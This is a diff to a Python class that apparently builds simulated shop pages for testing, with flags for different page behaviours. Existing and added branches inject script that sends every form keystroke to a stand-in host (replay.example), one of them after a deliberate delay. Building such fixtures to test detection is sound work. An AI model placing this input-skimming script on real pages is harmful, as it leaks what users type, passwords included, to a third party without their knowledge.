@@ -201,6 +201,12 @@ class Shop:
             page += "<script>document.forms[0].addEventListener('input', e => localStorage.setItem('draft', btoa(e.target.value)))</script>"
         if self.has("tells"):
             page += "<script>document.forms[0].addEventListener('input', e => fetch('https://replay.example/?v=' + e.target.value).catch(() => 0))</script>"
+        if self.has("tells-slowly"):
+            busy = "setTimeout(() => { for (let begun = Date.now(); Date.now() - begun < 1500;); }, 100)"
+            ask = "setTimeout(() => fetch('https://replay.example/?v=' + e.target.value).catch(() => 0), 300)"
+            page += f"<script>document.forms[0].addEventListener('input', e => {{ {busy}; {ask} }})</script>"
+        if self.has("leads-on"):
+            page += "<script>document.forms[0].addEventListener('input', e => location.assign('/done'))</script>"
         if self.has("loads-by-script"):
             page += "<script>new Image().src = 'http://img.example/x.png'</script>"
         page += '<a href="/done">done</a><a href="/api">api</a><a href="/login">log in</a>'
